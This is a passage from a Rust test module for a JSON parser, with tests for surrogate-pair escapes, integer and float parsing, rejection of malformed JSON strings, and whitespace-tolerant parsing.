        assert_eq!(
            Value::parse(r#""\ud83e\udd80""#).unwrap().as_str().unwrap(),
            "🦀"
        );
        assert!(Value::parse(r#""\ud83e""#).is_err());
    }

    #[test]
    fn numbers_parse_to_int_or_float() {
        assert_eq!(Value::parse("42").unwrap(), Value::Int(42));
        assert_eq!(Value::parse("-7").unwrap(), Value::Int(-7));
        assert_eq!(Value::parse("2.5").unwrap(), Value::Float(2.5));
        assert_eq!(Value::parse("1e3").unwrap(), Value::Float(1000.0));
        assert_eq!(Value::Float(2.0).to_compact(), "2.0");
    }

    #[test]
    fn malformed_documents_are_rejected() {
        for bad in ["{", "{not json", "[1,]", "{\"a\":}", "tru", "1 2", "\"\\q\""] {
            assert!(Value::parse(bad).is_err(), "{bad:?} should fail");
        }
    }

    #[test]
    fn whitespace_tolerant_parsing() {
        let v = Value::parse(" {\n \"a\" : [ 1 , 2 ] ,\r\n\t\"b\" : null } ").unwrap();
        assert_eq!(v.get("a").unwrap().as_array().unwrap().len(), 2);
        assert!(v.get("b").unwrap().is_null());
    }
}
